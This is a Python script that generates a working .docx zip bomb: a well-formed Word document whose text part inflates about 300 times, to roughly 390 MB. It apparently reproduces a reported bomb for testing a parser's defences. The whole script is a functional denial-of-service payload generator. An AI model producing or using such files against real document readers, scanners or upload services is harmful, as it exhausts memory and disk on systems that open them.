"""Build a .docx zip bomb on disk: a valid Word document whose text part inflates ~300 times.

Its body is well-formed WordprocessingML (Dutch paragraphs, now and then one of spaces), so
a reader that inflates and parses it in full gets all the way to the end; only the ratio of
inflated to compressed size and the amount of it give it away. The parts are written through
zipfile's streaming writer, so building it never holds the inflated text in memory.
"""

import sys
import zipfile
from pathlib import Path

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
_PACKAGE_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
    "</Relationships>"
)
_OPEN = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)
_CLOSE = "</w:body></w:document>"
_PARAGRAPH = (
    '<w:p><w:r><w:t xml:space="preserve">Ik zal uw Kamer voor de zomer informeren over de voortgang '
    "van onderdeel %d van het programma. </w:t></w:r></w:p>"
)
# A hundred numbered paragraphs deflate ~250 times; a paragraph of 9,000 spaces after them
# lifts the whole to ~300 times, the ratio of the bomb in the report (1.3 MB -> 390 MB).
_SPACES = '<w:p><w:r><w:t xml:space="preserve">' + " " * 9000 + "</w:t></w:r></w:p>"


def write_docx_bomb(path: Path, inflated_bytes: int = 390 * 1000 * 1000) -> Path:
    """Write the bomb to path; word/document.xml inflates to about inflated_bytes."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _PACKAGE_RELATIONSHIPS)
        with archive.open("word/document.xml", "w") as part:
            part.write(_OPEN.encode())
            written, block = len(_OPEN), 0
            while written < inflated_bytes:
                chunk = ("".join(_PARAGRAPH % block for _ in range(100)) + _SPACES).encode()
                part.write(chunk)
                written += len(chunk)
                block += 1
            part.write(_CLOSE.encode())
    return path


if __name__ == "__main__":
    target = write_docx_bomb(Path(sys.argv[1]))
    print(f"{target}: {target.stat().st_size:,} bytes")
